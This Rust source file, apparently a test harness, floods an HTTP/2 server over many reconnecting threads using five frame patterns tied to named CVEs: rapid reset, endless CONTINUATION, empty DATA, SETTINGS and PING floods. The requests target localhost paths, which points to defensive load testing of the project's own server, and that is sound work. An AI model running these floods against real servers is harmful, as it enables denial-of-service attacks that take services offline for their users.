//! Floods of HTTP/2 frames, written byte by byte.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::Duration;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET http://localhost/health`, without a table of headers.
const GET: &[u8] = b"\x82\x86\x04\x07/health\x01\x09localhost";
/// `POST http://localhost/internal/pdp/evaluate`.
const POST: &[u8] = b"\x83\x86\x04\x16/internal/pdp/evaluate\x01\x09localhost";
/// A header that no table keeps.
const HEADER: &[u8] = b"\x10\x01a\x01b";

/// What is sent in masses.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Frames {
    /// Requests that are taken back at once (CVE-2023-44487).
    Reset,
    /// Heads that never end (CVE-2024-27316).
    Continuation,
    /// Bodies of nothing (CVE-2019-9518).
    EmptyData,
    /// Settings, each of which is to be acknowledged, to one who does not read (CVE-2019-9515).
    Settings,
    /// The same with pings (CVE-2019-9512).
    Ping,
}

/// Some connections that flood a server.
pub struct Flood {
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<(u64, u64)>>,
}

impl Flood {
    /// Begins, on `count` connections; each is opened anew when it is cut.
    pub fn begin(address: SocketAddr, frames: Frames, count: usize) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let threads = (0..count).map(|_| {
            let stop = Arc::clone(&stop);
            thread::spawn(move || flood(address, frames, &stop))
        });
        Flood { threads: threads.collect(), stop }
    }

    /// Ends; how many frames were sent, and how often a connection was cut.
    pub fn end(self) -> (u64, u64) {
        self.stop.store(true, Ordering::Relaxed);
        let counts = self.threads.into_iter().filter_map(|thread| thread.join().ok());
        counts.fold((0, 0), |sum, (sent, cut)| (sum.0 + sent, sum.1 + cut))
    }
}

fn flood(address: SocketAddr, frames: Frames, stop: &AtomicBool) -> (u64, u64) {
    let (mut sent, mut cut) = (0, 0);
    while !stop.load(Ordering::Relaxed) {
        if one(address, frames, stop, &mut sent).is_err() {
            cut += 1;
        }
    }
    (sent, cut)
}

/// Floods on one connection, until it is cut or the flood ends.
fn one(address: SocketAddr, frames: Frames, stop: &AtomicBool, sent: &mut u64) -> io::Result<()> {
    let mut stream = TcpStream::connect(address)?;
    // Who does not read is not written to for ever.
    stream.set_write_timeout(Some(Duration::from_millis(500)))?;
    stream.write_all(PREFACE)?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    stream.write_all(&match frames {
        Frames::Continuation => frame(HEADERS, END_STREAM, 1, GET),
        Frames::EmptyData => frame(HEADERS, END_HEADERS, 1, POST),
        Frames::Reset | Frames::Settings | Frames::Ping => Vec::new(),
    })?;
    let mut stream_id = 1;
    while !stop.load(Ordering::Relaxed) {
        let mut batch = Vec::new();
        for _ in 0..100 {
            match frames {
                Frames::Reset => {
                    batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, GET));
                    batch.extend(frame(RST_STREAM, 0, stream_id, &8_u32.to_be_bytes()));
                    stream_id += 2;
                }
                Frames::Continuation => batch.extend(frame(CONTINUATION, 0, 1, HEADER)),
                Frames::EmptyData => batch.extend(frame(DATA, 0, 1, &[])),
                Frames::Settings => batch.extend(frame(SETTINGS, 0, 0, &[])),
                Frames::Ping => batch.extend(frame(PING, 0, 0, &[0; 8])),
            }
        }
        stream.write_all(&batch)?;
        *sent += 100;
    }
    Ok(())
}

/// A frame: its length, kind, flags, stream, and what it holds.
fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream_id.to_be_bytes());
    frame.extend(payload);
    frame
}
